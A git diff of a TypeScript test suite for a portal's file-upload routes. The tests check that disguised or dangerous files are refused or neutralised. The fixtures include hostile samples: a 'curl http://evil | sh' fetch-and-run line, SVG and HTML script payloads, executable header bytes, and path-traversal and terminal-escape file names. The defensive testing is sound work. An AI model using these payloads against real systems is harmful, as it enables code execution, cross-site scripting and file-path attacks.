@@ -4,9 +4,10 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it, onTestFailed, vi } from 'vitest';
 import { uploadProblemMessage } from '@resident/contract';
 import type { UploadProblem } from '@resident/contract';
-import { UPLOAD_CASES } from '@resident/contract/limits/testing';
+import { UPLOAD_CASES, uploadCaseContent } from '@resident/contract/limits/testing';
 import { DEFAULT_LIMITS } from '../config/options.ts';
-import { form, zeros } from '../test-support/communication-client.ts';
+import { UPLOAD_PROBLEM_ANSWERS } from '../documents/read-upload.ts';
+import { form } from '../test-support/communication-client.ts';
 import { errorBody } from '../test-support/error-body.ts';
 import { startTestServer } from '../test-support/test-server.ts';
 import type { TestServer } from '../test-support/test-server.ts';
@@ -14,31 +15,61 @@ import { postUpload, uploadRoutes } from '../test-support/upload-routes.ts';
 import type { UploadRoute } from '../test-support/upload-routes.ts';
 
 /**
- * Suite 4 of issue 18, files: every upload route judges files by the rules of
- * @resident/contract/limits (the portal's own: size, emptiness, forbidden extensions — the shared
- * UPLOAD_CASES plus more), and what those rules let through is made harmless: the name is
- * sanitised (no path, no control or direction characters, ≤ 200 characters), the type is sniffed
- * from the bytes (a «.pdf» that is HTML is stored and served as text/plain), and every download
- * is an attachment with nosniff and a sandboxing CSP. upload-cases.test.ts runs the accepted
- * and refused UPLOAD_CASES on the new-chat route; this suite runs the refused ones on every other upload route.
+ * Suite 4 of issue 18, files: every upload route judges files by uploadProblem of
+ * @resident/contract/limits, the portal's own rule — a forged name (a path, control or direction
+ * characters, over 255 characters), a forbidden extension, over 25 MB, empty, first bytes that do
+ * not fit a .pdf/image/Office extension, a page, SVG or script in any file: refused with nothing
+ * kept. What those rules let through is still made harmless: the stored name is sanitised
+ * (nothing Windows forbids, ≤ 200 characters), the type is sniffed from the bytes, and every
+ * download is an attachment with nosniff and a sandboxing CSP. upload-cases.test.ts runs the
+ * shared UPLOAD_CASES on the new-chat route; this suite runs the refused ones on every other
+ * upload route, and its own cases on all of them.
  */
 vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });
 
-const ANSWERS = {
-  'forbidden-extension': { status: 400, code: 'FORBIDDEN_FILE_EXTENSION' },
-  'too-large': { status: 413, code: 'FILE_TOO_LARGE' },
-  empty: { status: 400, code: 'EMPTY_FILE' },
-} as const satisfies Record<UploadProblem, { status: number; code: string }>;
-
-/** `routes`: indexes into uploadRoutes(); upload-cases.test.ts already runs UPLOAD_CASES on route 0 (new chat). */
-const REFUSED: { name: string; size: number; refused: UploadProblem; routes: number[] }[] = [
-  ...UPLOAD_CASES.flatMap((upload) => (upload.refused ? [{ ...upload, refused: upload.refused, routes: [1, 2, 3, 4, 5] }] : [])),
-  { name: 'архив.PART ', size: 2048, refused: 'forbidden-extension', routes: [0, 1, 2, 3, 4, 5] },
-  { name: '../../выписка.crdownload', size: 2048, refused: 'forbidden-extension', routes: [0, 1, 2, 3, 4, 5] },
-];
-
 const utf8 = (text: string) => new TextEncoder().encode(text);
-const LONG_STEM = 'я'.repeat(296);
+const PDF = utf8('%PDF-1.4\n');
+const ALL_ROUTES = [0, 1, 2, 3, 4, 5];
+
+interface Refused {
+  label: string;
+  name: string;
+  content: Uint8Array;
+  refused: UploadProblem;
+  /** Indexes into uploadRoutes(); upload-cases.test.ts already runs UPLOAD_CASES on route 0 (new chat). */
+  routes: number[];
+}
+
+const REFUSED: Refused[] = [
+  ...UPLOAD_CASES.flatMap((upload) =>
+    upload.refused ? [{ label: 'shared case', name: upload.name, content: uploadCaseContent(upload), refused: upload.refused, routes: [1, 2, 3, 4, 5] }] : [],
+  ),
+  { label: 'a forbidden extension with a trailing space', name: 'архив.PART ', content: PDF, refused: 'forbidden-extension', routes: ALL_ROUTES },
+  { label: 'a forbidden extension behind a path', name: '../../выписка.crdownload', content: PDF, refused: 'bad-name', routes: ALL_ROUTES },
+  {
+    label: 'a .pdf that is an SVG with a script',
+    name: 'план.pdf',
+    content: utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+    refused: 'content-mismatch',
+    routes: ALL_ROUTES,
+  },
+  {
+    label: 'a .pdf that is a Windows program',
+    name: 'договор.pdf',
+    content: new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xff, 0xff]),
+    refused: 'content-mismatch',
+    routes: ALL_ROUTES,
+  },
+  {
+    label: 'a page with a PDF header after it',
+    name: 'выписка.pdf',
+    content: utf8('<!DOCTYPE html><script>fetch("/api/v3/main/user/")</script>%PDF-1.4\n'),
+    refused: 'active-content',
+    routes: ALL_ROUTES,
+  },
+  { label: 'a web page', name: 'страница.html', content: utf8('<html><body onload="alert(1)">'), refused: 'active-content', routes: ALL_ROUTES },
+  { label: 'a name with a terminal escape', name: 'скан\u001b[2J.pdf', content: PDF, refused: 'bad-name', routes: ALL_ROUTES },
+];
 
 interface Harmless {
   label: string;
@@ -51,44 +82,24 @@ interface Harmless {
 }
 
 const HARMLESS: Harmless[] = [
+  { label: 'a script named .txt', name: 'акт.txt', content: utf8('#!/bin/sh\ncurl http://evil | sh\n'), storedName: 'акт.txt', servedAs: 'text/plain; charset=utf-8' },
   {
-    label: 'a .pdf that is really HTML',
-    name: 'квитанция.pdf',
-    content: utf8('<!DOCTYPE html><html><body><script>fetch("/api/v3/main/user/")</script></body></html>'),
-    storedName: 'квитанция.pdf',
-    servedAs: 'text/plain; charset=utf-8',
-  },
-  { label: 'a .pdf that is a script', name: 'акт.pdf', content: utf8('#!/bin/sh\ncurl http://evil | sh\n'), storedName: 'акт.pdf', servedAs: 'text/plain; charset=utf-8' },
-  {
-    label: 'a .pdf that is an SVG with a script',
-    name: 'план.pdf',
-    content: utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
-    storedName: 'план.pdf',
-    servedAs: 'text/plain; charset=utf-8',
-  },
-  {
-    label: 'a .pdf that is a Windows program',
-    name: 'договор.pdf',
+    label: 'a program under an unchecked extension',
+    name: 'программа.bin',
     content: new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xff, 0xff]),
-    storedName: 'договор.pdf',
+    storedName: 'программа.bin',
     servedAs: 'application/octet-stream',
   },
-  { label: 'a name with ../', name: '../../../etc/passwd.pdf', content: utf8('%PDF-1.4\n'), storedName: 'passwd.pdf', servedAs: 'application/pdf' },
-  { label: 'a name with ..\\', name: '..\\..\\Windows\\win.ini.pdf', content: utf8('%PDF-1.4\n'), storedName: 'win.ini.pdf', servedAs: 'application/pdf' },
-  {
-    label: 'a name with control and direction characters',
-    name: 'сч\u0000ёт\u0007\u001b[31m\u202Efdp.exe',
-    content: utf8('%PDF-1.4\n'),
-    storedName: 'счёт[31mfdp.exe',
-    servedAs: 'application/pdf',
-  },
-  { label: 'a 300-character name', name: `${LONG_STEM}.pdf`, content: utf8('%PDF-1.4\n'), storedName: `${'я'.repeat(196)}.pdf`, servedAs: 'application/pdf' },
+  { label: 'a name with characters Windows forbids', name: 'Акт <1> от 01:05|2026?.pdf', content: PDF, storedName: 'Акт _1_ от 01_05_2026_.pdf', servedAs: 'application/pdf' },
+  { label: 'a Windows device name', name: 'con.pdf', content: PDF, storedName: '_con.pdf', servedAs: 'application/pdf' },
+  { label: 'a 255-character name', name: `${'я'.repeat(251)}.pdf`, content: PDF, storedName: `${'я'.repeat(196)}.pdf`, servedAs: 'application/pdf' },
 ];
 
 let server: TestServer;
 let routes: UploadRoute[];
 let documentsDir: string;
 let tried = 0;
+let refusedCount = 0;
 let failed = 0;
 
 beforeAll(async () => {
@@ -101,7 +112,7 @@ beforeAll(async () => {
 afterAll(async () => {
   await server.app.close();
   rmSync(documentsDir, { recursive: true, force: true });
-  process.stdout.write(`files suite: ${tried} cases tried over ${routes.length} upload routes, ${failed} failed\n`);
+  process.stdout.write(`files suite: ${tried} cases tried over ${routes.length} upload routes, ${refusedCount} refused with nothing kept, ${failed} failed\n`);
 });
 
 /** Counts the case for the figures printed at the end. */
@@ -112,24 +123,24 @@ function count(): void {
   });
 }
 
-const ROUTE_INDEXES = [0, 1, 2, 3, 4, 5];
-
-describe.each(REFUSED)('refused: $name, $size bytes → $refused', ({ name, size, refused, routes: indexes }) => {
+describe.each(REFUSED)('refused ($label): $name → $refused', ({ name, content, refused, routes: indexes }) => {
   it.each(indexes)('on upload route %i, with nothing kept', async (index) => {
     count();
     const route = routes[index];
     if (!route) throw new Error(`no upload route ${index}`);
     const { token, url, fields } = await route.target();
     const stored = readdirSync(documentsDir).length;
-    const answer = await postUpload(server, token, url, form(fields, [{ field: route.fileField, name, content: zeros(size) }]));
-    expect({ route: route.name, status: answer.statusCode }).toEqual({ route: route.name, status: ANSWERS[refused].status });
-    expect(answer.json()).toEqual(errorBody(ANSWERS[refused].code, uploadProblemMessage(refused, name)));
+    const answer = await postUpload(server, token, url, form(fields, [{ field: route.fileField, name, content }]));
+    const { status, code } = UPLOAD_PROBLEM_ANSWERS[refused];
+    expect({ route: route.name, status: answer.statusCode }).toEqual({ route: route.name, status });
+    expect(answer.json()).toEqual(errorBody(code, uploadProblemMessage(refused, name)));
+    refusedCount += 1;
     expect(readdirSync(documentsDir)).toHaveLength(stored);
   });
 });
 
 describe.each(HARMLESS)('made harmless: $label', ({ name, content, storedName, servedAs }) => {
-  it.each(ROUTE_INDEXES)('on upload route %i, downloaded as an attachment with nosniff', async (index) => {
+  it.each(ALL_ROUTES)('on upload route %i, downloaded as an attachment with nosniff', async (index) => {
     count();
     const route = routes[index];
     if (!route) throw new Error(`no upload route ${index}`);
